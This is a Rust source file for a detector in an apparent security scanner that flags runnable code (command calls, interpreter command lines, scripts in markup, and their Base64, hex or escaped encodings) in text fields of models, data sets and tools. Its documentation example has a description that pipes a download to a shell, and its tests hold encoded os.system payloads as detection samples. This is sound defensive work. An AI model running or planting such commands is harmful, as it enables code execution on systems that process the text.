//! Code where text is expected: calls that run commands, command lines, scripts in markup, and any of these encoded.
//! `calls`, `commands` and `markup` each know one grammar; this file joins them and looks into what is encoded.

mod calls;
mod commands;
mod markup;

use palisade_base::{Confidence, Meta};

use super::{Detector, Hit, encoded, settled};

palisade_base::meta! {
    /// ## What it does
    ///
    /// Finds code that runs something, in text that should not hold code: calls of functions that run commands, evaluate
    /// text, load libraries or unpickle, in Python, Lua, R, JavaScript, Java and PHP; walks to the builtins through
    /// double-underscore attributes; command lines that hand text to an interpreter, feed a download to one, or delete
    /// and open up whole folders; scripts in markup; and any of these in Base64, hexadecimal, escapes or `chr()` sums.
    ///
    /// It looks at grammar: a name must be called with something, a command must stand where a command can stand.
    /// `exec_time_ms`, `eval loss` and `model.eval()` are none.
    ///
    /// ## Why it matters
    ///
    /// Text of a model, a data set or a tool is passed on to code that formats, renders or evaluates it. A description
    /// with a command line in it has been put there to be run by someone.
    ///
    /// ## Example
    ///
    /// ```text
    /// description = "classifier; python -c 'import os; os.system(\"curl example.com/x | sh\")'"
    /// ```
    ///
    /// ## What to do
    ///
    /// Remove the text, or the file that carries it. Never hand such text to a shell, an evaluator or a template engine.
    ///
    /// ## Limits
    ///
    /// Code that only computes is no hit, nor is code whose call is put together from pieces. Documentation that quotes a
    /// dangerous call looks like the call: where documentation is expected, hits are hints.
    ///
    /// ## References
    ///
    /// - CWE-94, Improper Control of Generation of Code
    /// - CWE-78, Improper Neutralization of Special Elements used in an OS Command
    static META: Detector = {
        name: "runnable-code",
        summary: "code that runs commands, where text is expected",
        severity: High,
        components: [Model, Application, Data],
        threats: [SupplyChain, Injection],
        stages: [Model, Deployment, Operations],
        since: "0.1.0",
    }
}

/// Finds code that runs something.
#[derive(Clone, Copy, Debug, Default)]
pub struct RunnableCode;

impl Detector for RunnableCode {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn find(&self, text: &str) -> Vec<Hit> {
        settled(look(text, LAYERS))
    }
}

/// Hits as they are written, and as they are encoded up to `layers` times.
fn look(text: &str, layers: usize) -> Vec<Hit> {
    let mut hits = calls::find(text);
    // No command line without one of these is dangerous, and most texts are single words.
    if SIGNS.iter().any(|[one, two, three]| memchr::memchr3(*one, *two, *three, text.as_bytes()).is_some()) {
        hits.extend(commands::find(text));
    }
    if memchr::memchr2(b'<', b':', text.as_bytes()).is_some() {
        hits.extend(markup::find(text));
    }
    if layers > 0 && text.len() >= LEAST {
        let runs = encoded::base64(text, LEAST).into_iter().chain(encoded::escapes(text));
        let runs = runs.chain(encoded::rarer(text, LEAST));
        hits.extend(runs.filter_map(|(range, decoded)| {
            let runs_something = look(&decoded, layers - 1).iter().any(|hit| hit.confidence > Confidence::Low);
            runs_something.then_some(Hit { range, kind: "encoded-code", confidence: Confidence::High })
        }));
    }
    hits
}

/// The signs of command lines, the commonest first.
const SIGNS: [[u8; 3]; 3] = [*b"-/(", *b"=|`", *b"+=("];
/// How many encodings may lie in each other.
const LAYERS: usize = 3;
/// The shortest run of Base64 that can hold a call.
const LEAST: usize = 16;

#[cfg(test)]
mod tests {
    use super::*;

    fn best(text: &str) -> Option<Confidence> {
        RunnableCode.find(text).into_iter().map(|hit| hit.confidence).max()
    }

    #[test]
    fn code_is_found_also_when_encoded() {
        for text in [
            "import os; os.system('id')",
            "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=",
            "WDE5cGJYQnZjblJmWHlnbmIzTW5LUzV6ZVhOMFpXMG9KMmxrSnlrPQ==",
            "L5PWS3LQN5ZHIX27FATW64ZHFEXHG6LTORSW2KBHNFSCOKI=",
            "Utei$aBp&SUtcIEZ*wOpE^~QvbY*QQCuw9SDF",
            "?XIMaE,Tc=?XG3/Df[9T/ou;ZFCf;;-Y[*=.0",
            r"\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x27\x69\x64\x27\x29",
            "6f732e73797374656d2827696427290a",
        ] {
            assert_eq!(best(text), Some(Confidence::High), "{text}");
        }
    }

    #[test]
    fn what_merely_has_such_words_is_not() {
        for text in [
            "exec_time_ms system_temperature eval_loss",
            "Execution metrics from the evaluation pipeline. No command invocation.",
            "model.eval()\nwith torch.no_grad(): y = model(x)",
            "A system (os) that evaluates: eval (loss), executive summary.",
            "Call the evaluate(model) function, then compile(optimizer='adam').",
            "the bash shell, python and curl are tools",
            "label=execute_mode_fast\ndescription=network_ready_model",
            "sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
            "VGhpcyBpcyBhIGhhcm1sZXNzIGRlc2NyaXB0aW9uIG9mIGEgbW9kZWw=",
            "see https://example.com/install.sh for how to install it",
            "python train.py --lr 1e-4 --eval-steps 100 && python eval.py",
            "reg:squarederror gbtree; num_class=3",
        ] {
            assert_eq!(RunnableCode.find(text), [], "{text}");
        }
    }
}
